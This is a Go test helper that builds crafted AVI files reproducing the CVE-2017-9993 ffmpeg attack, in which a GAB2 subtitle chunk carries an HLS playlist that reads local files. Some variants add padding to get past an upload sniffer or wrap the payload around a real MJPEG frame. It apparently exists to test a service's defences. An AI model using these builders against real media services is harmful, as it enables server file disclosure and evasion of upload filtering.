package testenv

import (
	"encoding/binary"
	"unicode/utf16"
)

// NeexAVI builds the AVI of Neex's 2017 file-read attack (neex/ffmpeg-avi-m3u-xbin; CVE-2017-9993): a
// tiny video stream and a text ("txts") stream whose one chunk is a GAB2 subtitle block. ffmpeg's AVI
// demuxer hands a GAB2 block's payload to whatever demuxer probes it; when the payload is an HLS
// playlist, the playlist's segments (file:// URLs) are read into the output. Since FFmpeg 3.3.2 the
// payload may only be SRT or ASS; the allowlists must close it as well.
//
// Layout (RIFF, little-endian): RIFF 'AVI ' { LIST 'hdrl' { avih, LIST 'strl' {strh vids, strf
// BITMAPINFOHEADER}, LIST 'strl' {strh txts, strf} }, LIST 'movi' { '00db' frame, '01tx' GAB2 } }.
func NeexAVI(payload []byte) []byte { return neexAVI(payload, 0) }

// NeexAVIPastTheSniffer is the same attack with a JUNK chunk (which AVI readers skip) before the
// payload, so that the playlist lies past the first 4 KiB an upload sniffer reads: a file the API's
// door lets through as an AVI, for the worker's own gate to face.
func NeexAVIPastTheSniffer(payload []byte) []byte { return neexAVI(payload, 4096) }

// NeexMJPEGPastTheSniffer is that attack around a video stream quinte decodes: jpeg, of 16x16 pixels,
// is its one Motion JPEG frame (camcorders write MJPEG AVIs), so that only the playlist can refuse it.
func NeexMJPEGPastTheSniffer(payload, jpeg []byte) []byte {
	return neexAVIFrame(payload, 4096, "MJPG", jpeg)
}

func neexAVI(payload []byte, junk int) []byte {
	const w, h = 16, 16
	return neexAVIFrame(payload, junk, "DIB ", make([]byte, w*h*3)) // one black 24-bit DIB frame
}

func neexAVIFrame(payload []byte, junk int, fourcc string, frame []byte) []byte {
	const w, h = 16, 16

	avih := le(
		uint32(40000), // microseconds per frame
		uint32(0), uint32(0),
		uint32(0x10), // AVIF_HASINDEX off, TRUSTCKTYPE
		uint32(1),    // total frames
		uint32(0),    // initial frames
		uint32(2),    // streams
		uint32(0),    // suggested buffer size
		uint32(w), uint32(h),
		uint32(0), uint32(0), uint32(0), uint32(0),
	)
	strh := func(kind, handler string, scale, rate, length uint32) []byte {
		b := append([]byte(kind), handler...)
		return append(b, le(
			uint32(0), uint16(0), uint16(0), uint32(0),
			scale, rate, uint32(0), length, uint32(0), uint32(0xFFFFFFFF), uint32(0),
			uint16(0), uint16(0), uint16(w), uint16(h),
		)...)
	}
	compression := uint32(0) // BI_RGB
	if fourcc != "DIB " {
		compression = binary.LittleEndian.Uint32([]byte(fourcc))
	}
	bih := le(uint32(40), int32(w), int32(h), uint16(1), uint16(24), compression, uint32(len(frame)),
		int32(0), int32(0), uint32(0), uint32(0))

	// GAB2: "GAB2\0", version 2, then a UTF-16 title, flags, size, and the payload a demuxer will probe.
	title := []byte{}
	for _, u := range utf16.Encode([]rune("en\x00")) {
		title = binary.LittleEndian.AppendUint16(title, u)
	}
	gab2 := append([]byte("GAB2\x00"), le(uint16(2), uint32(len(title)))...)
	gab2 = append(gab2, title...)
	gab2 = append(gab2, le(uint16(4), uint32(len(payload)))...)
	gab2 = append(gab2, payload...)

	hdrl := list("hdrl",
		chunk("avih", avih),
		list("strl", chunk("strh", strh("vids", fourcc, 1, 25, 1)), chunk("strf", bih)),
		list("strl", chunk("strh", strh("txts", "\x00\x00\x00\x00", 1, 1000, 1)), chunk("strf", []byte{})),
	)
	if junk > 0 {
		hdrl = append(hdrl, chunk("JUNK", make([]byte, junk))...)
	}
	movi := list("movi", chunk("01tx", gab2), chunk("00db", frame))
	body := append([]byte("AVI "), hdrl...)
	body = append(body, movi...)
	return append(append([]byte("RIFF"), le(uint32(len(body)))...), body...)
}

func chunk(id string, data []byte) []byte {
	b := append([]byte(id), le(uint32(len(data)))...)
	b = append(b, data...)
	if len(data)%2 == 1 {
		b = append(b, 0)
	}
	return b
}

func list(kind string, chunks ...[]byte) []byte {
	body := []byte(kind)
	for _, c := range chunks {
		body = append(body, c...)
	}
	return chunk("LIST", body)
}

func le(vals ...any) []byte {
	var b []byte
	for _, v := range vals {
		b, _ = binary.Append(b, binary.LittleEndian, v)
	}
	return b
}
